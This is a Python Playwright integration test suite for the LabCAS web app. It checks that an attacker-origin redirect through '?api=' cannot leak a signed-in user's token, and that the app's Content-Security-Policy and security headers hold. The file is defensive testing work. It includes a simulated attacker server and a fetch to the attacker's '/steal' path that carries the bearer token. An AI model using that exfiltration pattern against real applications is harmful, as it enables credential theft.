"""The web app on the real stack keeps the token to its own API, under its security headers.

An attacker page on another origin sends a signed-in tab to ``/ui/?api=<attacker>``: the
attacker's server, which would answer the app's calls (CORS and all), must never see the
token. With the Content-Security-Policy on, signing in, the catalog, a run form, the output
browser and its previews (presigned links to SeaweedFS) must report no violation.
"""

from __future__ import annotations

import io
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from PIL import Image

from labcas_workflow_api.devstack.process import free_port
from tests.integration.api_fixtures import ApiServer
from tests.integration.storage_fixtures import STAGING_BUCKET

pytestmark = pytest.mark.integration
CSP = "Content Security Policy"


@dataclass
class Seen:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes


@dataclass
class Attacker:
    """A page on another origin that sends the tab to the app with ``?api=`` naming itself,
    and a fake API there that would answer the app (any path, CORS preflights allowed)."""

    url: str
    target: str = ""
    seen: list[Seen] = field(default_factory=list)

    def leaks(self, token: str) -> list[Seen]:
        secret = token.split(".")[2]
        return [
            s
            for s in self.seen
            if "authorization" in s.headers
            or secret in s.path
            or secret.encode() in s.body
            or any(secret in v for v in s.headers.values())
        ]


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    port = free_port()
    found = Attacker(f"http://127.0.0.1:{port}")

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def record(self) -> None:
            length = int(self.headers.get("content-length") or 0)
            body = self.rfile.read(length) if length else b""
            headers = {k.lower(): v for k, v in self.headers.items()}
            found.seen.append(Seen(self.command, self.path, headers, body))

        def answer(self, status: int, body: bytes, kind: str) -> None:
            self.send_response(status)
            self.send_header("content-type", kind)
            self.send_header("content-length", str(len(body)))
            self.send_header("access-control-allow-origin", "*")
            self.send_header("access-control-allow-headers", "authorization, content-type")
            self.send_header("access-control-allow-methods", "GET, POST, PUT")
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            self.record()
            if self.path == "/":
                page = (
                    f"<!doctype html><script>location.replace({json.dumps(found.target)})</script>"
                )
                self.answer(200, page.encode(), "text/html")
            else:
                catalog = {"data_selections": [{"id": "attacker_data", "description": "x"}]}
                self.answer(200, json.dumps(catalog).encode(), "application/json")

        def do_OPTIONS(self) -> None:
            self.record()
            self.answer(204, b"", "text/plain")

        do_POST = do_PUT = do_GET

    server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def sign_in(page: Any, api: ApiServer, user: str) -> None:
    page.goto(f"{api.url}/ui/")
    page.get_by_label("LabCAS token").fill(api.token(user))
    page.get_by_role("button", name="Sign in").click()
    page.locator("#signed-in-user").wait_for()


def csp_messages(page: Any) -> list[str]:
    messages: list[str] = []
    page.on("console", lambda msg: messages.append(msg.text) if CSP in msg.text else None)
    return messages


def requests_of(page: Any) -> list[Any]:
    """Every request the page makes (headers are read after the fact: all_headers() is a
    round trip to the browser)."""
    seen: list[Any] = []
    page.on("request", lambda request: seen.append(request))
    return seen


def with_authorization(requests: list[Any]) -> list[str]:
    return [r.url for r in requests if "authorization" in r.all_headers()]


def test_an_attacker_page_cannot_point_a_signed_in_tab_at_another_api(
    page: Any, api_server: ApiServer, attacker: Attacker
) -> None:
    from playwright.sync_api import expect

    api = api_server
    token = api.token("thomas")
    attacker.target = f"{api.url}/ui/?api={attacker.url}"
    requests = requests_of(page)
    violations = csp_messages(page)
    sign_in(page, api, "thomas")
    expect(page.get_by_role("link", name=re.compile("nebraska_images"))).to_be_visible()

    page.goto(attacker.url + "/")
    page.wait_for_url(re.compile(re.escape(f"{api.url}/ui/?api=")))
    notice = page.locator("#ignored-api")
    expect(notice).to_be_visible()
    expect(notice).to_contain_text(attacker.url)
    expect(page.locator("#signed-in-user")).to_have_text("thomas")
    expect(page.get_by_role("link", name=re.compile("nebraska_images"))).to_be_visible()
    expect(page.get_by_text("attacker_data")).to_have_count(0)
    page.get_by_role("link", name="My outputs").first.click()
    expect(page.get_by_role("heading", name="My outputs")).to_be_visible()

    # a key that older versions kept from ?api= is dropped, not obeyed
    page.evaluate(f"sessionStorage.setItem('labcas.api', {json.dumps(attacker.url)})")
    page.reload()
    expect(page.get_by_role("heading", name="My outputs")).to_be_visible()
    stored = page.evaluate("JSON.stringify({...sessionStorage, ...localStorage})")
    assert attacker.url not in stored and "labcas.api" not in stored

    # the policy blocks the attacker's origin even for a script that tried on its own
    blocked = page.evaluate(
        """async ([url, token]) => {
             try { await fetch(url + "/steal", {headers: {Authorization: "Bearer " + token}});
                   return false; } catch { return true; } }""",
        [attacker.url, token],
    )
    assert blocked
    assert any(attacker.url in v and "connect-src" in v for v in violations)

    assert [s.path for s in attacker.seen if s.path != "/favicon.ico"] == ["/"]
    assert attacker.leaks(token) == []
    authorized = with_authorization(requests)
    assert authorized and all(u.startswith(api.url + "/") for u in authorized)


def test_a_link_may_choose_only_among_the_configured_api_bases(
    page: Any, api_server: ApiServer
) -> None:
    from playwright.sync_api import expect

    api = api_server
    config = {"apiUrl": "", "apiUrls": [f"{api.url}/dev"], "refreshMs": 4000}
    page.route(
        f"{api.url}/ui/config.js",
        lambda route: route.fulfill(
            body=f"window.LABCAS_CONFIG = {json.dumps(config)};",
            content_type="text/javascript",
        ),
    )
    requests = requests_of(page)
    page.goto(f"{api.url}/ui/?api={api.url}/dev/")
    expect(page.locator("#api-url")).to_have_value(f"{api.url}/dev")
    page.get_by_label("LabCAS token").fill(api.token("thomas"))
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("link", name=re.compile("nebraska_images"))).to_be_visible()
    expect(page.locator("#ignored-api")).to_have_count(0)
    authorized = with_authorization(requests)
    assert authorized and all(u.startswith(f"{api.url}/dev/") for u in authorized)


def seed_outputs(api: ApiServer, s3: Any, user: str) -> str:
    """A folder of the user's area with an image, a CSV and a TIFF; its name."""
    folder = "csp-check"
    png, tif = io.BytesIO(), io.BytesIO()
    Image.new("RGB", (32, 24), (200, 40, 40)).save(png, format="PNG")
    Image.new("L", (32, 24), 90).save(tif, format="TIFF")
    files = {
        "cells.png": png.getvalue(),
        "cells.csv": b"label,area\n1,40\n",
        "raw.tif": tif.getvalue(),
    }
    client = s3.client()
    for name, body in files.items():
        client.put_object(Bucket=STAGING_BUCKET, Key=f"{user}/{folder}/{name}", Body=body)
    return folder


def assert_security_headers(headers: dict[str, str], connect: list[str]) -> None:
    policy = {}
    for directive in headers["content-security-policy"].split("; "):
        name, _, value = directive.partition(" ")
        policy[name] = value
    assert policy["default-src"] == "'self'"
    assert policy["script-src"] == "'self'"
    assert policy["object-src"] == "'none'"
    assert policy["base-uri"] == "'none'"
    assert policy["form-action"] == "'self'"
    assert policy["frame-ancestors"] == "'none'"
    assert policy["connect-src"].split() == connect
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"


def test_the_app_works_under_its_content_security_policy(
    page: Any, browser: Any, api_server: ApiServer, s3_server: Any
) -> None:
    from playwright.sync_api import expect

    api = api_server
    folder = seed_outputs(api, s3_server, "dliu")
    storage = s3_server.endpoint_url
    violations = csp_messages(page)
    requests = requests_of(page)

    sign_in(page, api, "dliu")
    served = {r.url: r.response() for r in requests if r.url.startswith(f"{api.url}/ui/")}
    assert_security_headers(served[f"{api.url}/ui/"].all_headers(), ["'self'", storage])
    assert_security_headers(served[f"{api.url}/ui/app.js"].all_headers(), ["'self'", storage])
    expect(page.get_by_role("link", name=re.compile("nebraska_images"))).to_be_visible()
    page.goto(f"{api.url}/ui/#/wf/nebraska_demo?ds=nebraska_images")
    expect(page.locator("form.run-form").get_by_label("tile_size")).to_have_value("64")

    page.goto(f"{api.url}/ui/#/outputs/{folder}")
    page.wait_for_function(
        "() => { const i = [...document.querySelectorAll('td.thumb img')];"
        " return i.length === 1 && i[0].complete && i[0].naturalWidth > 0; }"
    )
    page.goto(f"{api.url}/ui/#/outputs/{folder}?file=cells.png")
    page.wait_for_function(
        "() => { const i = document.querySelector('figure.preview img');"
        " return i && i.complete && i.naturalWidth > 0; }"
    )
    page.goto(f"{api.url}/ui/#/outputs/{folder}?file=cells.csv")
    expect(page.locator("table.csv thead th").first).to_have_text("label")
    page.goto(f"{api.url}/ui/#/outputs/{folder}?file=raw.tif")
    expect(page.locator("figure.preview canvas")).to_be_visible()
    assert violations == []
    presigned = [r for r in requests if r.url.startswith(storage + "/")]
    assert presigned and all("authorization" not in r.all_headers() for r in presigned)

    listing = browser.new_context(
        extra_http_headers={**api.headers("dliu"), "Accept": "text/html"}
    ).new_page()
    try:
        listing_violations = csp_messages(listing)
        answer = listing.goto(f"{api.url}/output-data/{folder}/")
        assert answer.headers["content-type"].startswith("text/html")
        headers = answer.headers
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
        assert "base-uri 'none'" in policy and "script-src" not in policy
        expect(listing.get_by_role("link", name="cells.csv")).to_be_visible()
        assert listing.evaluate("getComputedStyle(document.body).marginTop") == "32px"
        assert listing_violations == []
    finally:
        listing.context.close()
